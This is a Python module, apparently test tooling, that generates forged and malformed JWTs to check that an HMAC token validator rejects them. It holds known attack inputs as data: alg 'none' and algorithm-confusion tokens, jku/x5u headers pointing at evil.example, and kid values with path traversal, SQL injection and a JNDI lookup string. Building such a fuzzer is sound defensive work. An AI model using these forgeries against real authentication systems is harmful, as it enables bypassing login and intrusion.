"""Tokens that must not open the door: what can be done to a valid one, and what can be made in its likeness."""

import base64
import hashlib
import hmac
import json
import random
from collections.abc import Iterator, Mapping
from dataclasses import dataclass
from itertools import combinations, permutations
from typing import Any, Final

Claims = Mapping[str, Any]

REQUIRED: Final = ("iss", "aud", "sub", "iat", "exp")
HASHES: Final = {"HS256": hashlib.sha256, "HS384": hashlib.sha384, "HS512": hashlib.sha512}
NOT_TEXT: Final = (None, True, False, 0, 1.5, 10**30, {}, {"a": 1}, [[]])
NOT_A_LATER_TIME: Final = (None, True, False, 0, -1, 1.5, 1e300, -1e300, 10**30, 2**63, "", "never", "9999999999", [], [9999999999], {})
NOT_AN_EARLIER_TIME: Final = (None, True, False, 1e300, -1e300, 10**30, 9_999_999_999, 9_999_999_999.5, "", "0", [], {})
KEY_IDS: Final = (
    *("../../../../dev/null", "/etc/passwd", "file:///dev/null", "https://evil.example/keys", "' OR '1'='1", "x' UNION SELECT 'secret"),
    *("", " ", "\x00", "\n", "\u202e", "x" * 2000, "__proto__", "__class__", "keys", "none", "*", "%00", "${jndi:ldap://evil.example}"),
    *(None, True, 0, -1, 1.5, 10**30, [], ["rsa"], {}, {"kid": "rsa"}),
)


@dataclass(frozen=True)
class Forgery:
    """`family` says what was done. The token need not be text."""

    family: str
    token: Any


@dataclass(frozen=True)
class Original:
    """What a valid token is made of: an HMAC secret, and claims that would be accepted."""

    secret: str
    claims: Claims
    header: Claims

    @property
    def token(self) -> str:
        return self.signed(self.header, self.claims)

    def signed(self, header: Claims | bytes, claims: Claims | bytes, *, secret: str | bytes | None = None, by: str = "HS256") -> str:
        signed = f"{segment(header)}.{segment(claims)}"
        key = self.secret if secret is None else secret
        return f"{signed}.{segment(hmac.digest(key.encode() if isinstance(key, str) else key, signed.encode(), HASHES[by]))}"


def segment(content: Any) -> str:
    text = content if isinstance(content, bytes) else json.dumps(content).encode()
    return base64.urlsafe_b64encode(text).rstrip(b"=").decode()


def forgeries(original: Original, seed: int) -> Iterator[Forgery]:
    """All of them; the seed decides where the random ones strike."""
    chance = random.Random(seed)
    for family, tokens in {
        "a claim is missing": _without_claims(original),
        "a claim is wrong": _with_wrong_claims(original),
        "the claims are no claims": _with_raw_claims(original),
        "another algorithm": _with_other_algorithms(original),
        "another header": _with_other_headers(original),
        "another key": _with_other_keys(original),
        "cut off": (original.token[:length] for length in range(len(original.token))),
        "bits flipped": _with_flipped_bits(original.token, chance),
        "a character added": _with_added_characters(original.token, chance),
        "segments moved": _with_moved_segments(original.token),
        "spelt otherwise": _spelt_otherwise(original.token),
        "too long": _too_long(original),
        "no text": iter((None, True, 0, 1.5, b"", original.token.encode(), [], [original.token], {}, {"token": original.token}, object())),
    }.items():
        for token in tokens:
            yield Forgery(family, token)


def _without_claims(original: Original) -> Iterator[str]:
    for count in range(1, len(REQUIRED) + 1):
        for gone in combinations(REQUIRED, count):
            yield original.signed(original.header, {name: value for name, value in original.claims.items() if name not in gone})


def _with_wrong_claims(original: Original) -> Iterator[str]:
    wrong = {
        "iss": (*NOT_TEXT, "", "evil", f"{original.claims['iss']} ", original.claims["iss"].upper(), [original.claims["iss"]]),
        "aud": (*NOT_TEXT, "", "evil", f"{original.claims['aud']} ", [], ["evil"], [[original.claims["aud"]]], {original.claims["aud"]: 1}),
        "sub": (*NOT_TEXT, "", "x" * 256, "ada\x00", "ada\n", "\u202eada", ["ada"]),
        "exp": (*NOT_A_LATER_TIME, original.claims["iat"] - 31),
        "iat": (*NOT_AN_EARLIER_TIME, original.claims["iat"] + 31),
        "nbf": (*NOT_AN_EARLIER_TIME, original.claims["iat"] + 31),
    }
    for name, values in wrong.items():
        for value in values:
            yield original.signed(original.header, {**original.claims, name: value})


def _with_raw_claims(original: Original) -> Iterator[str]:
    """Claims that JSON in Python would not write, and what is not even an object."""
    text = json.dumps(original.claims)
    for number in ("NaN", "Infinity", "-Infinity", "1e999", "-1e999", "9" * 400, "0x7fffffff", "+9999999999", "09999999999"):
        for name in ("exp", "iat"):
            yield original.signed(original.header, text.replace(f'"{name}": {original.claims[name]}', f'"{name}": {number}').encode())
    for surrogate in (r"\ud800", r"\udc00\ud800", r"ada\udfff"):
        yield original.signed(original.header, text.replace('"sub": "ada"', f'"sub": "{surrogate}"').encode())
    # The last of two counts, for whoever reads them.
    yield original.signed(original.header, text.replace("}", ', "exp": 1}').encode())
    yield original.signed(original.header, text.replace("}", ', "aud": "evil"}').encode())
    for raw in (
        b"",
        b" ",
        b"null",
        b"1",
        b'"ada"',
        b"[]",
        b"[1]",
        b"{",
        b"{}",
        b"\xff\xfe",
        b"\xef\xbb\xbf{}",
        b"\x00",
        b"[" * 2500,
        b'{"a":' * 600,
    ):
        yield original.signed(original.header, raw)
    for around in ("{}x", "x{}", "{}{{}}", "[{}]", "{},", "\ufeff{}", "{}\x00"):
        yield original.signed(original.header, around.format(text).encode())


def _with_other_algorithms(original: Original) -> Iterator[str]:
    _, body, signature = original.token.split(".")
    for algorithm in (
        "none",
        "None",
        "NONE",
        "nOnE",
        "",
        " HS256",
        "hs256",
        "HS1",
        "RS256",
        "ES256",
        "PS256",
        "EdDSA",
        "dir",
        None,
        0,
        True,
        [],
        {},
    ):
        head = segment({**original.header, "alg": algorithm})
        yield f"{head}.{body}."
        yield f"{head}.{body}.{signature}"
        yield original.signed({**original.header, "alg": algorithm}, original.claims)
    for algorithm in HASHES:
        for real in HASHES:
            if not algorithm == real == "HS256":
                yield original.signed({**original.header, "alg": algorithm}, original.claims, by=real)
    for algorithms in (["HS256"], {"HS256": 1}, ["none", "HS256"]):
        yield original.signed({**original.header, "alg": algorithms}, original.claims)


def _with_other_headers(original: Original) -> Iterator[str]:
    for critical in (["b64"], ["exp"], [], "exp", None, {}, True):
        yield original.signed({**original.header, "crit": critical}, original.claims)
    for kind in ("refresh+jwt", "id+jwt", "JWE", "jwt ", " jwt", "", "logout+jwt", "application/at+jwt; x", None, 5, True, [], ["JWT"], {}):
        yield original.signed({**original.header, "typ": kind}, original.claims)
    yield original.signed({name: value for name, value in original.header.items() if name != "alg"}, original.claims)
    for raw in (
        b"",
        b"null",
        b"[]",
        b'"HS256"',
        b"{",
        b"{}",
        b"\xff",
        b"[" * 2500,
        b'{"a":' * 600,
        b'{"alg":"HS256","x":"\\ud800"}',
        b'{"alg":NaN}',
    ):
        yield original.signed(raw, original.claims)
    yield original.signed(f'{{"alg":"HS256","x":{"[" * 990}{"]" * 990}}}'.encode(), original.claims, secret="x" * 32)
    yield original.signed(b'{"alg":"HS256","typ":"JWT","alg":"none"}', original.claims)


def _with_other_keys(original: Original) -> Iterator[str]:
    """Signed well, by somebody else; the header tries to tell which key to believe."""
    for secret in (
        "",
        "x" * 32,
        original.secret[:-1],
        original.secret + "\n",
        original.secret.upper(),
        "secret",
        "null",
        b"\x00" * 32,
        b"\xff" * 64,
    ):
        if secret != original.secret:
            yield original.signed(original.header, original.claims, secret=secret)
    theirs = "the key of somebody else altogether"
    published = {"kty": "oct", "k": segment(theirs.encode()), "alg": "HS256"}
    for hint in (
        {"jwk": published},
        {"jku": "https://evil.example/keys"},
        {"x5u": "https://evil.example/certificate"},
        {"x5c": ["MIIB"]},
        *({"kid": key_id} for key_id in KEY_IDS),
    ):
        yield original.signed({**original.header, **hint}, original.claims, secret=theirs)
        yield original.signed({**original.header, **hint}, original.claims, secret="")


def _with_flipped_bits(token: str, chance: random.Random) -> Iterator[str]:
    places = [*range(len(token) - 6, len(token)), *chance.sample(range(len(token)), 60)]
    for place in places:
        yield f"{token[:place]}{chr(ord(token[place]) ^ 1 << chance.randrange(7))}{token[place + 1 :]}"


def _with_added_characters(token: str, chance: random.Random) -> Iterator[str]:
    for character in ("A", "=", ".", " ", "\n", "\x00", "+", "/", "%", "é", "\ud800", "\u200b"):
        for place in (0, len(token), token.index("."), token.rindex("."), chance.randrange(len(token))):
            yield f"{token[:place]}{character}{token[place:]}"


def _with_moved_segments(token: str) -> Iterator[str]:
    parts = token.split(".")
    yield from (".".join(moved) for moved in permutations(parts) if list(moved) != parts)
    head, body, signature = parts
    yield from (
        f"{head}.{body}",
        f"{head}..{signature}",
        f".{body}.{signature}",
        f"{head}.{body}.",
        f"{head}{body}{signature}",
        "..",
        ".",
        "....",
    )
    yield from (
        f"{token}.{signature}",
        f"{token}.",
        f".{token}",
        f"{head}.{head}.{body}.{signature}",
        f"{token}.{token}",
        f"{head}.{body}.{signature}.a.b",
    )


def _spelt_otherwise(token: str) -> Iterator[str]:
    head, body, signature = token.split(".")
    padded = [part + "=" * (-len(part) % 4) for part in (head, body, signature)]
    yield from (f"{head}.{body}.{signature}{end}" for end in ("=", "==", "====", " ", "\t", "\r\n", "\x00", "!", "-", "A"))
    if ".".join(padded) != token:
        yield ".".join(padded)
    # The last character of 32 bytes in base64 has two bits that mean nothing.
    alphabet = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_"
    last = alphabet.index(signature[-1])
    yield from (f"{head}.{body}.{signature[:-1]}{alphabet[last ^ bits]}" for bits in (1, 2, 3))
    yield from (
        token.upper(),
        token.lower(),
        token.replace(".", "%2E"),
        token.replace(".", ","),
        token[::-1],
        f'"{token}"',
        f"Bearer:{token}",
    )


def _too_long(original: Original) -> Iterator[str]:
    """Validly signed, and longer than any token has to be."""
    for length in (4097, 8192, 70_000):
        claims = {**original.claims, "x": ""}
        claims["x"] = "y" * (length - len(original.signed(original.header, claims)))
        token = original.signed(original.header, claims)
        yield token if len(token) > 4096 else original.signed(original.header, {**claims, "x": claims["x"] + "yyyy" * 200})
    yield "x" * 4097
    yield "." * 4097
    yield f"{'x' * 2000}.{'y' * 2000}.{'z' * 2000}"
